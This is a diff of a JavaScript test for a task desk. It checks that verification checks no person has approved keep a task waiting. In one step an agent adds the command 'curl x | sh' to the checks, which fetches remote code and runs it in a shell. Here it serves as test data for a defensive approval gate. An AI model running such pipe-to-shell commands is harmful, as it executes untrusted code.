@@ -28,13 +28,14 @@ describe('G8 checks that no person has approved', () => {
     const { desk } = place();
     const task = desk.run('task.plan', { goal: 'Do it', checks: ['true'] }, ada).task;
     await place().take(task);
+    assert.deepEqual(waiting(), [task]);
+    desk.run('checks.approve', { task, checks: ['true'] });
     assert.deepEqual(waiting(), []);
     desk.run('task.edit', { task, checks: ['true', 'curl x | sh'] }, agent);
     assert.deepEqual(waiting(), [task]);
     desk.workspace.ownWindowSays({ trusted: true, unsaved: [] });
     assert.equal((await place().finish()).state, 'completed');
     assert.deepEqual(waiting(), [task]);
-    // A person writes what is left, and approves by that.
     desk.run('task.edit', { task, checks: ['true'] }, ada);
     assert.deepEqual(waiting(), []);
   });
